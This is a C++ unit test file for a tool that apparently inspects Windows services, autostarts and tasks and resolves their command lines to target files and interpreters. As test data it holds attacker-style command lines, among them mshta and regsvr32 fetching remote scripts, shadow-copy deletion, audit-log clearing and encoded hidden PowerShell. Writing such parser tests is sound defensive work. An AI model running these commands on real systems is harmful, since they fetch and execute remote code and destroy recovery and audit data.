// What command lines lead to, as services, autostarts and tasks have them.
#include "xiezhi/readers/command.h"

#include <gtest/gtest.h>

namespace xiezhi::readers {
namespace {

struct CommandCase {
    const char* name;
    const char* line;
    const char* target;
    const char* interpreter;
};

class Commands : public testing::TestWithParam<CommandCase> {};

TEST_P(Commands, LeadToWhatRuns) {
    const Command command = resolve_command(GetParam().line, HostPaths());
    EXPECT_EQ(command.target, GetParam().target);
    EXPECT_EQ(command.interpreter, GetParam().interpreter);
}

INSTANTIATE_TEST_SUITE_P(
    Lines, Commands,
    testing::Values(CommandCase{"Plain", R"(C:\Users\Public\svchosts.exe -k netsvc)",
                                R"(C:\Users\Public\svchosts.exe)", ""},
                    CommandCase{"Quoted", R"("C:\Program Files\A B\c.exe" /x)",
                                R"(C:\Program Files\A B\c.exe)", ""},
                    CommandCase{"UnquotedBlanks", R"(C:\Program Files\A B\c.exe /x)",
                                R"(C:\Program Files\A B\c.exe)", ""},
                    CommandCase{"Variable", R"(%windir%\system32\SecurityHealthSystray.exe)",
                                R"(C:\Windows\system32\SecurityHealthSystray.exe)", ""},
                    CommandCase{"UnknownVariable", R"(%nothing%\a.exe)", R"(%nothing%\a.exe)", ""},
                    CommandCase{"SystemRoot", R"(\SystemRoot\System32\drivers\a.sys)",
                                R"(C:\Windows\System32\drivers\a.sys)", ""},
                    CommandCase{"Device", R"(\??\C:\Windows\Temp\WinRing0x64.sys)",
                                R"(C:\Windows\Temp\WinRing0x64.sys)", ""},
                    CommandCase{"Relative", R"(System32\drivers\a.sys)",
                                R"(C:\Windows\System32\drivers\a.sys)", ""},
                    CommandCase{"Rundll32", R"(rundll32.exe C:\ProgramData\wh.dat,Start)",
                                R"(C:\ProgramData\wh.dat)", "rundll32"},
                    CommandCase{"Wscript", R"(wscript.exe //b C:\Users\t\a.vbs)",
                                R"(C:\Users\t\a.vbs)", "wscript"},
                    CommandCase{"CmdStart",
                                R"(C:\Windows\System32\cmd.exe /c start C:\ProgramData\e.exe)",
                                R"(C:\ProgramData\e.exe)", "cmd"},
                    CommandCase{"CmdStartTitle", R"(cmd /c start "" /b "C:\a b\e.exe" x)",
                                R"(C:\a b\e.exe)", "cmd"},
                    CommandCase{"CmdToRundll32", R"(cmd.exe /c "rundll32 C:\x.dll,#1")",
                                R"(C:\x.dll)", "rundll32"},
                    CommandCase{"Mshta", "mshta http://198.51.100.7/x.hta",
                                "http://198.51.100.7/x.hta", "mshta"},
                    CommandCase{"Regsvr32Scriptlet",
                                "regsvr32 /s /u /i:http://a.example/b.sct scrobj.dll",
                                "http://a.example/b.sct", "regsvr32"},
                    CommandCase{"PowerShellFile", R"(powershell -nop -File C:\p\a.ps1 -x)",
                                R"(C:\p\a.ps1)", "powershell"},
                    CommandCase{"BareName", "cmd.exe", R"(C:\Windows\System32\cmd.exe)", ""},
                    CommandCase{"BareOfWbem", "wmic.exe shadowcopy delete",
                                R"(C:\Windows\System32\wbem\wmic.exe)", ""},
                    CommandCase{"BareOfWindows", "explorer", R"(C:\Windows\explorer.exe)", ""},
                    CommandCase{"BareRareTool", "auditpol /clear /y",
                                R"(C:\Windows\System32\auditpol.exe)", ""},
                    CommandCase{"BareUnknown", "bx.exe", "bx.exe", ""},
                    CommandCase{"Empty", "", "", ""}, CommandCase{"QuoteAlone", "\"", "", ""},
                    CommandCase{"NoEnding", R"(C:\Tools\run me)", R"(C:\Tools\run)", ""}),
    [](const auto& one) { return one.param.name; });

TEST(Commands, EncodedTextIsDecoded) {
    const Command command = resolve_command("powershell -w hidden -enc SQBFAFgA", HostPaths());
    EXPECT_EQ(command.decoded, "IEX");
    EXPECT_EQ(command.interpreter, "powershell");
}

TEST(Commands, MissingQuotesAreSaid) {
    EXPECT_TRUE(resolve_command(R"(C:\Program Files\a.exe -x)", HostPaths()).unquoted_blanks);
    EXPECT_FALSE(resolve_command(R"("C:\Program Files\a.exe" -x)", HostPaths()).unquoted_blanks);
    EXPECT_FALSE(
        resolve_command(R"(C:\Windows\a.exe C:\Program Files\b)", HostPaths()).unquoted_blanks);
}

TEST(Commands, UsersHaveFoldersOfTheirOwn) {
    const HostPaths paths = HostPaths().of_user(R"(C:\Users\li)");
    EXPECT_EQ(full_path(R"(%APPDATA%\x.exe)", paths), R"(C:\Users\li\AppData\Roaming\x.exe)");
    EXPECT_EQ(full_path(R"(%TEMP%\x.exe)", paths), R"(C:\Users\li\AppData\Local\Temp\x.exe)");
}

TEST(Commands, ArgumentsAreCutAsWindowsCutsThem) {
    EXPECT_EQ(arguments_of(R"(a "b c" d\"e f\\ "g\\" h)"),
              (std::vector<std::string>{"a", "b c", "d\"e", R"(f\\)", R"(g\)", "h"}));
    EXPECT_TRUE(arguments_of("   ").empty());
}

TEST(Commands, FillADocument) {
    State state(Dataset::Autostart);
    set_command(state, R"(rundll32.exe "C:\ProgramData\wh.DAT",Start)", HostPaths());
    EXPECT_EQ(state.text(StateField::FilePath), R"(C:\ProgramData\wh.DAT)");
    EXPECT_EQ(state.text(StateField::FileName), "wh.DAT");
    EXPECT_EQ(state.text(StateField::FileDirectory), R"(C:\ProgramData)");
    EXPECT_EQ(state.text(StateField::FileExtension), "dat");
    EXPECT_EQ(state.text(StateField::TraitInterpreter), "rundll32");
    EXPECT_EQ(state.values(StateField::ProcessArgs).size(), 2U);
}

}  // namespace
}  // namespace xiezhi::readers
